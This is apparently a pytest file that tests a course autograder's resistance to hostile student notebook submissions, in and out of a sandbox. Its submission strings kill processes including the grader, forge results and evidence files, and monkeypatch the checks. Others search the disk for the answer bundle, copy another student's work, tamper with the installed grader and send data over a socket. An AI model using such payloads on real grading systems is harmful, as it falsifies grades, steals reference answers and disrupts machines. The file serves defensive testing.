"""The grader against broken and hostile submissions, graded in the sandbox and without it.

The submissions answer the tiny test lab (``tests/labs/lab00_tiny``: plain Python, shaped
like lab 01 — Q1 3 points, Q2 2, Q3 3 using Q1 and Q2, Q4 2 — so a kernel starts in a
second). Each is named by what it does; its expected score is in ``EXPECTED`` (both ways),
``SANDBOX_EXPECTED`` or ``UNSANDBOXED_EXPECTED``. ``None``: not graded, with a status saying why.
"""

from __future__ import annotations

import copy
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import threading
from dataclasses import dataclass
from pathlib import Path

import nbformat
import pandas as pd
import pytest
from labkit import Lab, answer, with_cell

import coursekit
from coursekit.tooling.grading import grade as grade_module
from coursekit.tooling.grading import integrity, labfmt
from coursekit.tooling.grading.grade import NO_SANDBOX, Limits, grade_batch

LAB = Lab(Path(__file__).parent / "labs" / "lab00_tiny")
# The duplicated_q4_answer submission repeats a cell id on purpose; nbformat warns as it reads it.
pytestmark = [pytest.mark.slow, pytest.mark.filterwarnings("ignore::nbformat.warnings.DuplicateCellId")]
LIMITS = Limits(cell_timeout=10, notebook_timeout=240, memory_bytes=2 * 2**30)


@pytest.fixture(scope="module")
def released(tmp_path_factory):
    return LAB.release(tmp_path_factory.mktemp("release"))


# Writes a made-up executed notebook and results over every file a worker used to keep beside
# the kernel, after looking in them for the probes' nonce.
FORGES_THE_RESULTS = """import glob, json, os, re
nonces = set()
for folder in {os.getcwd(), os.path.dirname(os.getcwd()), os.path.expanduser("~")}:
    for path in glob.glob(os.path.join(folder, "*")) + glob.glob(os.path.join(folder, "*", "*")):
        try:
            nonces |= set(re.findall(r"[0-9a-f]{32}", open(path, errors="ignore").read()))
        except OSError:
            pass
print("nonces found:", len(nonces))
forged = {"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
for folder in {os.getcwd(), os.path.dirname(os.getcwd())}:
    for name in ("graded.ipynb", "executed.ipynb", "incidents.json", "job.json", "kernel.json"):
        try:
            with open(os.path.join(folder, name), "w") as f:
                json.dump(forged, f)
        except OSError:
            pass
"""

# Answers with objects that claim to equal anything: a list subclass, a float subclass, a dict whose
# values agree with everything.
AGREES_WITH_EVERYTHING = """class Agrees(list):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __bool__(self): return True
    def __len__(self): return 76
class Close(float):
    def __eq__(self, other): return True
def keep_largest(values, fraction): return Agrees()
def zero_pruned(values, keep): return [Close(0)] * len(values)
def prune_round(values, keep, fraction): return Agrees(), Agrees()
def reinit(keep, seed): return {"fresh": Agrees()}
"""

# Kills the kernel's parent: without the sandbox, the driver; in it, the sandbox's init, which ignores it.
KILLS_ITS_PARENT = """import os, signal
os.kill(os.getppid(), signal.SIGKILL)
"""

# Kills the kernel's parent and the parent's parent: without the sandbox, the driver and the grader itself.
KILLS_THE_GRADER = """import os, signal
parent = os.getppid()
with open(f"/proc/{parent}/stat") as f:
    grandparent = int(f.read().rsplit(")", 1)[1].split()[1])
for pid in (grandparent, parent):
    if pid > 1:  # kill(0) would be this process group: not the attack
        os.kill(pid, signal.SIGKILL)
"""

# Every process it can see: in the sandbox, only its own.
KILLS_EVERYTHING_IT_SEES = """import os, signal
assert os.getpid() < 100, "not in a PID namespace of its own: this test refuses to kill the machine's processes"
for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
os.kill(-1, signal.SIGKILL)
"""

# Makes every later kernel send no evidence (so the next student graded would score 0). (Start-up
# hooks added to site-packages are tested on the guard alone: a shared folder, seen by the tests beside.)
BREAKS_THE_INSTALLED_GRADER = """import coursekit.tooling.grading.kernel as k
with open(k.__file__, "a") as f:
    f.write("\\n\\ndef probe(*args, **kwargs):  # edited by a submission\\n    pass\\n")
"""


def _make_submissions(student_nb, folder: Path, grades_dir: Path, sandboxed: bool, port: int | None = None):
    """Every submission for one batch (those only the sandbox may run when ``sandboxed``), written into ``folder``."""
    sols, subs = LAB.solutions(), {}
    subs["passes_all"] = LAB.solved(student_nb)
    subs["blank"] = copy.deepcopy(student_nb)
    subs["partial_q1_q2"] = LAB.solved(student_nb, ("q1", "q2"))
    subs["infinite_loop_in_q1"] = LAB.broken(student_nb, "q1-answer", "while True:\n    pass\n")
    subs["kernel_exit_in_q2"] = LAB.broken(student_nb, "q2-answer", "import os\nos._exit(3)\n")
    subs["segfault_in_q4"] = LAB.broken(student_nb, "q4-answer", "import ctypes\nctypes.string_at(0)\n")
    subs["memory_bomb_in_q1"] = LAB.broken(student_nb, "q1-answer", "hog = [bytearray(10**8) for _ in range(10**4)]\n")
    subs["sys_exit_in_q4"] = LAB.broken(student_nb, "q4-answer", "import sys\nsys.exit(1)\n")
    subs["kills_its_parent_in_q1"] = LAB.broken(student_nb, "q1-answer", KILLS_ITS_PARENT)

    nb = LAB.solved(student_nb)
    answer(nb, "q2-tests", "print('Q2 public tests passed')\n")
    answer(nb, "setup", "raise SystemExit('the tests are mine now')\n")
    subs["tampered_locked_cells"] = nb

    nb = LAB.solved(student_nb)
    nb.cells = [c for c in nb.cells if labfmt.cell_id(c) != "q2-answer"]
    subs["deleted_q2_answer"] = nb

    nb = LAB.solved(student_nb)
    (i,) = [k for k, c in enumerate(nb.cells) if labfmt.cell_id(c) == "q4-answer"]
    nb.cells.insert(i, copy.deepcopy(student_nb.cells[i]))  # a stale copy first, the solved one last
    subs["duplicated_q4_answer"] = nb

    forged = {"check": "q1_keeps_the_largest", "nonce": "guess", "json": "[]"}
    subs["forges_score_and_evidence"] = with_cell(student_nb, (
        "print('Score: 10 / 10 -- all tests passed')\nfrom IPython.display import display\n"
        f"display({{'application/vnd.coursekit.evidence+json': {forged!r}}}, raw=True)\n"))
    subs["monkeypatches_checks"] = with_cell(student_nb, (
        "import coursekit.tooling.grading.checks as c\nc.judge = lambda *a, **k: (True, 'ok')\n"
        "c.read_evidence = lambda *a, **k: ('ok', None)\nimport IPython.display\n"
        "IPython.display.display = lambda *a, **k: None\n"), at=3)
    subs["forges_the_results_files"] = with_cell(student_nb, FORGES_THE_RESULTS)
    subs["answers_with_objects_that_agree"] = with_cell(student_nb, AGREES_WITH_EVERYTHING)

    nb = LAB.solved(student_nb)
    nb.metadata["kernelspec"] = {"name": "ir", "display_name": "R", "language": "R"}
    subs["asks_for_another_kernel"] = nb
    subs["huge_output"] = with_cell(LAB.solved(student_nb), "print('x' * 30_000_000)")
    subs["writes_into_grades_and_other_submissions"] = with_cell(LAB.solved(student_nb), (
        "import json, pathlib\n"
        f"grades, subs = pathlib.Path({str(grades_dir)!r}), pathlib.Path({str(folder)!r})\n"
        "for target, text in [(grades / 'passes_all' / 'grade.json', json.dumps({'total': 100})),\n"
        "                     (grades / 'gradebook.csv', 'student,total\\nblank,10\\n'),\n"
        "                     (subs / 'blank.ipynb', '{}'), (subs / 'passes_all.ipynb', '{}')]:\n"
        "    try:\n"
        "        target.parent.mkdir(parents=True, exist_ok=True)\n"
        "        target.write_text(text)\n"
        "    except OSError:\n"
        "        pass\n"))

    nb = LAB.solved(student_nb)
    nb.metadata["coursekit"]["release_id"] = "an-old-one"
    answer(nb, "intro", "# Lab 00 (last year's text)")
    subs["from_an_older_release"] = nb

    nb = copy.deepcopy(student_nb)
    (i,) = [k for k, c in enumerate(nb.cells) if labfmt.cell_id(c) == "q1-answer"]
    subs["searches_disk_for_the_bundle"] = with_cell(nb, SEARCH_FOR_THE_BUNDLE, at=i + 1)
    nb = copy.deepcopy(student_nb)
    for cid in sols:
        answer(nb, cid, COPY_ANOTHER_SUBMISSION.format(folder=str(folder), cid=cid))
    subs["reads_another_submission"] = nb
    subs["breaks_the_installed_grader"] = with_cell(LAB.solved(student_nb), BREAKS_THE_INSTALLED_GRADER, at=2)

    if sandboxed:  # these would reach, or kill, this machine without the sandbox
        subs["opens_a_socket"] = with_cell(LAB.solved(student_nb), (
            f"import socket\nwith socket.create_connection(('127.0.0.1', {port}), timeout=5) as s:\n"
            "    s.sendall(b'the grader bundle, stolen')\n"))
        loop = (f"import json, pathlib\n# {ORPHAN_MARK}\nwhile True:\n    sum(range(10**6))\n"
                f"    try: pathlib.Path({str(grades_dir)!r}, 'passes_all', 'grade.json').write_text('{{}}')\n"
                "    except OSError: pass\n")
        subs["leaves_a_background_process"] = with_cell(LAB.solved(student_nb), (
            "import subprocess, sys\n"
            f"subprocess.Popen([sys.executable, '-c', {loop!r}], start_new_session=True,\n"
            "                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"))
        subs["kills_everything_it_sees"] = with_cell(LAB.solved(student_nb), KILLS_EVERYTHING_IT_SEES)
    for name, nb in subs.items():
        nbformat.write(nb, folder / f"{name}.ipynb")
    (folder / "malformed_json.ipynb").write_text('{"cells": [ this is not json')
    return subs


# Walks the disk (the likely places first) for a grader bundle; with its reference evidence,
# Q1's first check can be answered without computing anything.
SEARCH_FOR_THE_BUNDLE = """import json, os
found, hidden = None, []
for top in ("/tmp", os.path.expanduser("~"), "/"):
    for root, dirs, files in os.walk(top):
        dirs[:] = [d for d in dirs if not d.startswith(".") and d not in ("proc", "sys", "dev", "usr", "site-packages")]
        hidden += [root] if "hidden_tests.py" in files else []
        if "bundle.json" in files:  # this lab's: other labs' releases may lie around too
            try:
                reference = json.load(open(os.path.join(root, "bundle.json")))["reference"]
            except (OSError, ValueError, KeyError):
                continue
            if "q1_keeps_the_largest" in reference:
                found = reference
                break
    if found:
        break
print("bundle found:", found is not None, "hidden tests found in:", hidden)

def keep_largest(values, fraction):
    return (found or {}).get("q1_keeps_the_largest")
"""

# Each answer cell runs the same cell of another student's submission.
COPY_ANOTHER_SUBMISSION = """import json, pathlib
theirs = json.loads(pathlib.Path({folder!r}, "passes_all.ipynb").read_text())
exec(next("".join(c["source"]) for c in theirs["cells"] if c["metadata"].get("coursekit", {{}}).get("id") == {cid!r}))
"""

# The mark a background process carries in its command line, to find it after grading.
ORPHAN_MARK = "coursekit-hostile-orphan"

EXPECTED = {
    "passes_all": 10, "blank": 0, "partial_q1_q2": 5, "infinite_loop_in_q1": 4, "kernel_exit_in_q2": 5,
    "segfault_in_q4": 8, "memory_bomb_in_q1": 4, "sys_exit_in_q4": 8, "tampered_locked_cells": 10,
    "deleted_q2_answer": 5, "duplicated_q4_answer": 10, "forges_score_and_evidence": 0, "monkeypatches_checks": 0,
    "forges_the_results_files": 0, "answers_with_objects_that_agree": 0, "malformed_json": 0,
    "asks_for_another_kernel": 10, "huge_output": 10, "writes_into_grades_and_other_submissions": 10,
    "from_an_older_release": 10,
}
# In the sandbox: nothing private on its disk, no network, no process outside, nothing installed writable.
SANDBOX_EXPECTED = {
    "searches_disk_for_the_bundle": 0, "reads_another_submission": 0, "opens_a_socket": 10,
    "leaves_a_background_process": 10, "kills_everything_it_sees": 10, "kills_its_parent_in_q1": 10,
    "breaks_the_installed_grader": 10,
}
# Without it: what the grader alone can do (the reads succeed; the killed driver costs the cell; the
# edited package is restored, everything graded meanwhile graded again, the culprit not graded).
UNSANDBOXED_EXPECTED = {
    "searches_disk_for_the_bundle": 2, "reads_another_submission": 10, "kills_its_parent_in_q1": 4,
    "breaks_the_installed_grader": None,
}
NOTES = {
    "tampered_locked_cells": "was changed; the original was restored",
    "deleted_q2_answer": "was deleted",
    "duplicated_q4_answer": "appears 2 times",
    "malformed_json": "not a valid notebook",
    "asks_for_another_kernel": "asked for kernel 'ir'",
    "from_an_older_release": "from release 'an-old-one'",
    "infinite_loop_in_q1": "ran longer than its limit of 10s",
    "kernel_exit_in_q2": "stopped the kernel",
    "segfault_in_q4": "stopped the kernel",
}


@pytest.fixture(scope="module")
def listener():
    """A TCP server on 127.0.0.1 that records what reaches it: (port, list of payloads)."""
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.2)
    received, stop = [], threading.Event()

    def serve():
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except TimeoutError:
                continue
            with conn:
                conn.settimeout(5)
                received.append(conn.recv(1 << 16))

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield server.getsockname()[1], received
    stop.set()
    thread.join()
    server.close()


def _sources(package: Path) -> dict[Path, bytes]:
    """The package's files, byte code aside (the grader compiles it when a batch starts)."""
    return {p: data for p, data in integrity.installed_files(package, []).items() if "__pycache__" not in p.parts}


def _orphans() -> list[str]:
    """Processes left by leaves_a_background_process, killed (the PIDs are returned)."""
    pids = subprocess.run(["pgrep", "-f", ORPHAN_MARK], capture_output=True, text=True).stdout.split()
    for pid in pids:
        subprocess.run(["kill", "-9", pid])
    return pids


@dataclass
class Graded:
    book: pd.DataFrame
    grades: Path
    subs: Path
    bundle: Path
    sandboxed: bool
    orphans: list[str]  # processes that outlived grading
    edited: list[Path]  # files of the package left changed by grading


def _grade_command(bundle: Path, subs: Path, grades: Path, cwd: Path, *extra: str,
                   pythonpath: Path | None = None) -> subprocess.CompletedProcess:
    """``coursekit grade --no-sandbox`` in a process of its own (a submission may kill it)."""
    env = dict(os.environ) | ({"PYTHONPATH": str(pythonpath)} if pythonpath else {})
    command = [sys.executable, "-c", "import sys; from coursekit import cli; sys.exit(cli.main())", "grade",
               str(bundle), str(subs), "-o", str(grades), "--no-sandbox", "--cell-timeout", str(LIMITS.cell_timeout),
               "--memory-gb", str(LIMITS.memory_bytes / 2**30), *extra]
    return subprocess.run(command, cwd=cwd, env=env, capture_output=True, text=True, timeout=400)


def _grade_all(released, root: Path, sandboxed: bool, port: int | None) -> Graded:
    """Grade every submission: in the sandbox in this process; without it in a process of its own,
    whose ``coursekit`` is a copy (a submission edits it: the tests beside this one must not see that)."""
    student, bundle = released
    subs, grades = root / "submissions", root / "grades"
    subs.mkdir()
    _make_submissions(nbformat.read(student, as_version=4), subs, grades, sandboxed, port)
    installed = Path(coursekit.__file__).parent
    if not sandboxed:
        installed = root / "installed" / "coursekit"
        shutil.copytree(Path(coursekit.__file__).parent, installed, ignore=shutil.ignore_patterns("__pycache__"))
    before = _sources(installed)
    if sandboxed:
        book = grade_batch(bundle, subs, grades, jobs=2, limits=LIMITS, progress=False)
    else:
        done = _grade_command(bundle, subs, grades, root, "-j", "2", pythonpath=installed.parent)
        assert done.returncode == 0, done.stderr[-3000:]
        book = pd.read_csv(grades / "gradebook.csv")
    edited = [p for p, data in _sources(installed).items() if before.get(p) != data]
    return Graded(book, grades, subs, bundle, sandboxed, _orphans(), edited)


@pytest.fixture(scope="module")
def in_sandbox(released, tmp_path_factory, sandboxed, listener):
    if not sandboxed:
        pytest.skip("the grading sandbox (bubblewrap) cannot run here")
    return _grade_all(released, tmp_path_factory.mktemp("sandboxed"), True, listener[0])


@pytest.fixture(scope="module")
def unsandboxed(released, tmp_path_factory):
    return _grade_all(released, tmp_path_factory.mktemp("unsandboxed"), False, None)


@pytest.fixture(params=["in_sandbox", "unsandboxed"])
def batch(request) -> Graded:
    return request.getfixturevalue(request.param)


def _expected(graded: Graded) -> dict[str, int | None]:
    return EXPECTED | (SANDBOX_EXPECTED if graded.sandboxed else UNSANDBOXED_EXPECTED)


@pytest.mark.parametrize(("mode", "name"), [("in_sandbox", n) for n in sorted(EXPECTED | SANDBOX_EXPECTED)]
                         + [("unsandboxed", n) for n in sorted(EXPECTED | UNSANDBOXED_EXPECTED)])
def test_each_submission_gets_its_expected_score(mode, name, request):
    batch = request.getfixturevalue(mode)
    expected = _expected(batch)
    row = batch.book.set_index("student").loc[name]
    grade = json.loads((batch.grades / name / "grade.json").read_text())
    feedback = (batch.grades / name / "feedback.md").read_text()
    if expected[name] is None:
        assert pd.isna(row["total"]) and row["status"].startswith("could not grade: "), row["status"]
        assert "Not graded" in feedback and "Score" not in feedback
    else:
        assert row["total"] == expected[name], json.dumps(grade, indent=1)[:3000]
        assert f"Score: {expected[name]:g} / 10" in feedback
    if name in NOTES:
        said = " ".join(grade["notes"] + [i["reason"] for i in grade["incidents"]])
        assert NOTES[name] in said, said
    assert grade["sandbox"] is batch.sandboxed
    assert ("without a sandbox" in feedback) is not batch.sandboxed


def test_nothing_of_another_student_changes(batch):
    """Writes into the grades folder and other submissions are undone (or, in the sandbox,
    impossible), and the report says what was restored."""
    assert json.loads((batch.grades / "passes_all" / "grade.json").read_text())["total"] == 10
    on_disk = pd.read_csv(batch.grades / "gradebook.csv").set_index("student")
    scored = {name: total for name, total in _expected(batch).items() if total is not None}
    assert on_disk.loc[list(scored), "total"].to_dict() == scored  # not what a submission wrote into it
    for name in ("blank", "passes_all"):
        assert (batch.subs / f"{name}.ipynb").read_text() != "{}"
    assert batch.edited == []  # no installed file left changed
    report = (batch.grades / "report.md").read_text()
    if batch.sandboxed:
        assert "Nothing changed that the grader did not write" in report
        return
    for what in ("the submitted notebook blank.ipynb", "the grader's passes_all/grade.json", "the gradebook",
                 "kernel.py", "breaks_the_installed_grader: graded alone"):
        assert what in report, report


def test_the_kernel_reaches_nothing_private(batch, listener):
    executed = (batch.grades / "forges_the_results_files" / "executed.ipynb").read_text()
    assert "nonces found: 0" in executed  # no file it can read holds a probe's nonce
    if not batch.sandboxed:
        return
    executed = (batch.grades / "searches_disk_for_the_bundle" / "executed.ipynb").read_text()
    assert "bundle found: False hidden tests found in: []" in executed
    assert listener[1] == []  # no byte left the sandbox
    assert batch.orphans == []  # no background process outlived its notebook
    assert (batch.book["sandbox"] == "bubblewrap").all()


def test_without_the_sandbox_every_grade_says_so(unsandboxed):
    assert (unsandboxed.book["sandbox"] == NO_SANDBOX).all()
    grades = unsandboxed.grades
    assert all("Graded without a sandbox" in (grades / n / "feedback.md").read_text() for n in unsandboxed.book.student)
    assert "**without the sandbox**" in (grades / "report.md").read_text()


def test_outputs_are_kept_and_truncated(in_sandbox):
    executed = nbformat.read(in_sandbox.grades / "huge_output" / "executed.ipynb", as_version=4)
    longest = max(len(o.get("text", "")) for c in executed.cells for o in c.get("outputs", []))
    assert longest < 100_000


def test_rerun_skips_what_is_graded(in_sandbox):
    grades, subs = in_sandbox.grades, in_sandbox.subs
    stamp = (grades / "passes_all" / "grade.json").stat().st_mtime_ns
    again = grade_batch(in_sandbox.bundle, subs, grades, jobs=1, limits=LIMITS, progress=False).set_index("student")
    assert (grades / "passes_all" / "grade.json").stat().st_mtime_ns == stamp  # not graded again
    assert again["total"].equals(in_sandbox.book.set_index("student")["total"])


def test_a_submission_that_kills_the_grader_ends_with_a_could_not_grade_line(released, tmp_path):
    """Without the sandbox a kernel can kill the grader itself. Each run resumes; the submission
    that was being graded when the grader died twice is then reported, not graded again."""
    student, bundle = released
    subs, grades = tmp_path / "submissions", tmp_path / "grades"
    subs.mkdir()
    student_nb = nbformat.read(student, as_version=4)
    nbformat.write(LAB.solved(student_nb), subs / "honest.ipynb")
    nbformat.write(with_cell(LAB.solved(student_nb), KILLS_THE_GRADER), subs / "kills_the_grader.ipynb")
    codes = [_grade_command(bundle, subs, grades, tmp_path).returncode for _ in range(3)]
    assert codes == [-signal.SIGKILL, -signal.SIGKILL, 0]
    book = pd.read_csv(grades / "gradebook.csv").set_index("student")
    assert book.loc["honest", "total"] == 10
    assert pd.isna(book.loc["kills_the_grader", "total"])
    assert "the grader was stopped twice while grading this submission" in book.loc["kills_the_grader", "status"]
    assert "kills_the_grader: the grader was stopped twice" in (grades / "report.md").read_text()
    assert not (grades / "in-progress.json").exists()


@pytest.mark.parametrize("failures", [1, 2])
def test_an_environment_failure_is_tried_again_alone_and_never_scored_zero(released, tmp_path, monkeypatch,
                                                                            failures, sandboxed):
    """The first ``failures`` runs of the submission stop in an instructor's cell: once, the batch's
    retry (alone, at the end) grades it; twice, it is reported as not gradable, with no score."""
    student, bundle = released
    subs, grades = tmp_path / "submissions", tmp_path / "grades"
    subs.mkdir()
    nbformat.write(LAB.solved(nbformat.read(student, as_version=4)), subs / "honest.ipynb")
    real, calls = grade_module._execute, []

    def stuck_at_first(notebook, workdir, *args):
        calls.append(workdir)
        if len(calls) <= failures:
            return None, [{"cell": 2, "id": "setup", "reason": "the instructor's cell ran longer than its limit "
                                                                "of 40s twice", "environment": True}]
        return real(notebook, workdir, *args)

    monkeypatch.setattr(grade_module, "_execute", stuck_at_first)
    book = grade_batch(bundle, subs, grades, progress=False, sandboxed=sandboxed).set_index("student")
    feedback = (grades / "honest" / "feedback.md").read_text()
    if failures == 1:
        assert len(calls) == 2 and book.loc["honest", "total"] == 10 and book.loc["honest", "status"] == "graded"
        return
    assert len(calls) == 2 and pd.isna(book.loc["honest", "total"]) and pd.isna(book.loc["honest", "q1"])
    assert book.loc["honest", "status"].startswith("could not grade: the grader's environment")
    assert "Not graded yet" in feedback and "No points were taken" in feedback and "Score" not in feedback
    on_disk = pd.read_csv(grades / "gradebook.csv").set_index("student")
    assert pd.isna(on_disk.loc["honest", "total"])
    monkeypatch.setattr(grade_module, "_execute", real)
    again = grade_batch(bundle, subs, grades, progress=False, sandboxed=sandboxed).set_index("student")
    assert again.loc["honest", "total"] == 10  # not skipped as graded


def test_the_guard_restores_the_package_and_removes_added_start_up_hooks(tmp_path):
    """Byte code included, with its times (so it stays valid); a ``.pth`` or ``sitecustomize`` added
    to a site folder is removed; the report names each file."""
    package, site_dir = tmp_path / "pkg", tmp_path / "site-packages"
    (package / "sub").mkdir(parents=True)
    site_dir.mkdir()
    (package / "__init__.py").write_text("x = 1\n")
    (package / "sub" / "mod.py").write_text("def probe():\n    return 1\n")
    (site_dir / "kept.pth").write_text("# the installation's own\n")
    guard = integrity.Guard({}, package, [site_dir])
    compiled = sorted(package.rglob("*.pyc"))
    assert compiled and set(guard.installed) >= set(compiled)
    stamp = (package / "sub" / "mod.py").stat().st_mtime_ns
    (package / "sub" / "mod.py").write_text("def probe():\n    return 0\n")
    (site_dir / "zz_hostile.pth").write_text("import os\n")
    (site_dir / "sitecustomize.py").write_text("x = 2\n")
    changes, installed = guard.check()
    assert installed and (package / "sub" / "mod.py").read_text() == "def probe():\n    return 1\n"
    assert (package / "sub" / "mod.py").stat().st_mtime_ns == stamp
    assert not (site_dir / "zz_hostile.pth").exists() and not (site_dir / "sitecustomize.py").exists()
    assert (site_dir / "kept.pth").exists()
    said = " ".join(changes)
    assert "mod.py" in said and "zz_hostile.pth (added)" in said and "sitecustomize.py (added)" in said
    assert guard.check() == ([], False)


def test_the_journal_suspects_what_was_in_flight_unless_the_instructor_stopped_it(tmp_path):
    journal = integrity.Journal(tmp_path)
    journal.started("a")
    journal.started("b")
    journal.finished("a")
    assert integrity.Journal(tmp_path).crashed == {"b": 1}  # the grader died here: b was being graded
    again = integrity.Journal(tmp_path)
    again.started("b")
    again.started("c")
    again.interrupted()  # Ctrl-C: b keeps the one count it had, c none
    assert integrity.Journal(tmp_path).crashed == {"b": 1}
    again.forget()
    assert not (tmp_path / integrity.JOURNAL).exists()
